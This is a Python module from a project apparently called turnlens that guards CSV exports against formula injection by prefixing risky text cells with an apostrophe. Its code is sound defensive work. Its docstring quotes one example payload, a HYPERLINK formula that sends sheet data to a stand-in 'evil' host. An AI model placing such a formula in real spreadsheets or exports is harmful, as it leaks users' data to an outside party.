"""The one rule every CSV turnlens writes follows, so a spreadsheet never runs log text as a formula.

Text in our CSVs comes from logs, candidate files and people (turn text, dialogue ids, model names, values,
reviewer names). Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://evil/?"&A1, "x")`` sends the sheet's data away), and a leading tab or
carriage return can hide such a start. OWASP's recommendation, followed here: such a text cell gets a leading
apostrophe, which spreadsheets show as text and do not evaluate. Numbers, dates and missing values are left
alone. The rule changes the text, so exact values are in the JSON Lines and Parquet exports, which never
apply it.

The store applies the same rule inside DuckDB for the labels export (``app.store.export_labels``) from
``FORMULA_STARTS`` and ``PREFIX``; downloads built from DataFrames use ``safe_frame``.
"""

from __future__ import annotations

import pandas as pd

# OWASP's list (CSV injection): the first characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"  # a leading apostrophe: spreadsheets show the rest as text


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could run this text as a formula (it starts with one of FORMULA_STARTS)."""
    return text[:1] in FORMULA_STARTS


def safe_cell(value: object) -> object:
    """A CSV cell that no spreadsheet runs: text starting with one of FORMULA_STARTS gets PREFIX in front;
    anything else (other text, numbers, None) is returned unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return PREFIX + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of frame with safe_cell applied to every text cell (columns of object or string dtype; other
    columns hold no text). The input is not modified."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(safe_cell)
    return out
